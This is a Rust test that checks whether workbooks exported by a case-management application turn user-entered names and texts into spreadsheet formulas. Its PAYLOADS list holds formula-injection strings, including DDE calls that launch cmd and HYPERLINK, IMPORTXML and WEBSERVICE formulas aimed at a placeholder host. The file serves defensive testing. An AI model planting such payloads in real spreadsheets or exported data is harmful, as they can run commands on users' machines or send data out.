//! Names that are formulas to a spreadsheet: in no workbook or paper the house writes may one become a formula.

use std::io::{Cursor, Read};

use casebook::report::period::Period;
use casebook::report::{self, Asked};
use casebook::slice::Slice;
use casebook::{Casebook, book, import};
use rust_xlsxwriter::Workbook;
use serde_json::json;
use zip::ZipArchive;

use crate::crash::room;
use crate::sample::unit;
use crate::table::{Row, Wrongs};
use crate::work::{PASSPHRASE, QUICK, draft, now};

/// What has been used to make a spreadsheet run something.
pub const PAYLOADS: [&str; 18] = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"xem\")",
    "=IMPORTXML(\"http://x.invalid\",\"//a\")",
    "=WEBSERVICE(\"http://x.invalid\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "{=1+1}",
    "'=1+1",
    "=\u{200b}1+1",
    "＝1+1",
    " =1+1",
    "=1+1\u{0}",
    "%0A=1+1",
];

/// The row: every payload in every workbook. The workbooks have formulas of their own, so that they add up; what counts
/// is what there is beyond those of the same workbooks with harmless texts.
pub fn row() -> Row {
    let mut wrongs = Wrongs::of(&["formulas"]);
    let harmless = workbooks_with(&["Bình thường"; PAYLOADS.len()]);
    let hostile = workbooks_with(&PAYLOADS);
    let what = format!("texts that are formulas to a spreadsheet, in {} workbooks", hostile.len());
    for ((name, before), (_, after)) in harmless.iter().zip(&hostile) {
        let (before, after) = (formulas(before), formulas(after));
        (before..after).for_each(|_| wrongs.note("formulas", || format!("{name}: {after} instead of {before}")));
    }
    wrongs.looked = PAYLOADS.len();
    wrongs.row(&what, PAYLOADS.len())
}

fn workbooks_with(texts: &[&str]) -> Vec<(&'static str, Vec<u8>)> {
    let room = room();
    let (mut book, _) = casebook::create(&room.path().join("so"), PASSPHRASE, false, QUICK, now()).unwrap();
    book::load(&mut book, unit().as_bytes(), now()).unwrap();
    for text in texts {
        enter(&mut book, text);
    }
    let mut workbooks = workbooks_of(&book);
    workbooks.push(("rejects", rejects(&book, texts)));
    workbooks
}

fn enter(book: &mut Casebook, payload: &str) {
    let petition = json!({"received_on": "2026-11-20", "source": "post", "petitioners":
        [{"full_name": payload, "address": payload}], "signer_count": 1, "anonymity": "named", "kind": "complaint",
        "respondent": payload, "eligibility": "undetermined", "competence": "undetermined", "summary": payload});
    book::add(book, Slice::Petition, draft(&petition), now()).unwrap();
    let model = json!({"name": payload, "field": "economic", "holder": payload, "registered_on": "2026-11-20",
        "state": "registered", "result": payload, "note": payload});
    // A field list that differs is no matter of this.
    let _ = book::add(book, Slice::Model, draft(&model), now());
    let dialogue = json!({"on": "2026-11-20", "kind": "periodic", "topic": payload, "about_reception": false,
        "host": payload, "people": 3, "note": payload});
    let _ = book::add(book, Slice::Dialogue, draft(&dialogue), now());
}

fn workbooks_of(book: &Casebook) -> Vec<(&'static str, Vec<u8>)> {
    let asked = Asked::plainly(Period::parse("2026-11").unwrap());
    let made = report::report(book.read(), &asked, now()).unwrap();
    vec![
        ("report", report::workbook(book.read(), &asked, &made).unwrap()),
        ("mobilisation", report::mobilisation_workbook(book.read(), &asked, true).unwrap()),
    ]
}

/// The workbook of rows that stayed outside: every row bad, every cell a payload.
fn rejects(book: &Casebook, texts: &[&str]) -> Vec<u8> {
    let rows: Vec<Vec<&str>> = texts.iter().map(|text| vec!["x", "không ngày", text, text, text]).collect();
    let file = import::open(&drawn(&rows)).unwrap();
    let plan = file.guess().unwrap();
    let verdicts = import::dry_run(book, &file, &plan, now()).unwrap();
    import::rejects(&file, &plan, &verdicts, now()).unwrap()
}

/// A register of visits as offices keep it, with so many good rows.
pub fn sheet(rows: usize) -> Vec<u8> {
    let names: Vec<String> = (0..rows).map(|n| format!("Nguyễn Văn {n}, thôn {n}")).collect();
    let rows: Vec<Vec<&str>> =
        names.iter().map(|name| vec!["1", "05/9/2019", name, "", "Kiến nghị về đường thôn"]).collect();
    drawn(&rows)
}

fn drawn(rows: &[Vec<&str>]) -> Vec<u8> {
    let headings =
        ["STT", "Ngày tiếp", "Họ tên – Địa chỉ", "CMND/Hộ chiếu của công dân", "Nội dung vụ việc", "Ghi chú"];
    let mut workbook = Workbook::new();
    let page = workbook.add_worksheet();
    for (row, texts) in (0_u32..).zip(std::iter::once(&headings.to_vec()).chain(rows)) {
        for (column, text) in (0_u16..).zip(texts) {
            page.write_string(row, column, *text).unwrap();
        }
    }
    workbook.save_to_buffer().unwrap()
}

/// How many formulas and links a workbook's sheets hold.
fn formulas(bytes: &[u8]) -> usize {
    let mut parts = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut found = 0;
    for place in 0..parts.len() {
        let mut part = parts.by_index(place).unwrap();
        let mut text = String::new();
        if part.name().unwrap().starts_with("xl/worksheets") && part.read_to_string(&mut text).is_ok() {
            found += ["<f>", "<f ", "<hyperlink "].iter().map(|tag| text.matches(tag).count()).sum::<usize>();
        }
    }
    found
}
